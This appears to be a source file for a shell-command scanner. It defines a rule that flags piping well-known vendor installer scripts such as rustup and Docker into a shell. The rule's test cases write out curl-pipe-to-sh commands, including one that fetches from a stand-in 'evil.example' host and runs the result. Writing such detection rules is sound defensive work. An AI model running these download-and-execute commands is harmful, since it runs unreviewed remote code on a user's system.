import { defineRule } from './rule.js';
import { invocationUrls } from './match.js';
import { downloadRuns, isVendorInstaller } from './download-pipe-shell.js';

export const rule = defineRule({
  id: 'vendor_installer_pipe',
  category: 'download_execute',
  severity: 'high',
  title: "Pipes a well-known vendor's installer script into a shell (rustup, Docker, Homebrew…)",
  check(ctx) {
    return downloadRuns(ctx)
      .filter(({ fetch }) => isVendorInstaller(fetch))
      .map(({ inv, fetch }) => ({
        span: { start: fetch.span.start, end: inv.span.end },
        explanation: `downloads the installer ${invocationUrls(fetch)[0]} and runs it with ${inv.program}; it comes from a known vendor, but what it runs is not shown`,
      }));
  },
  cases: {
    positive: [["bash", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh"], ['bash', 'curl -fsSL https://get.docker.com | sh']],
    negative: [['bash', 'curl -fsSL https://get.docker.com -o get-docker.sh'], ['bash', 'curl -fsSL https://evil.example/x | sh']],
  },
});
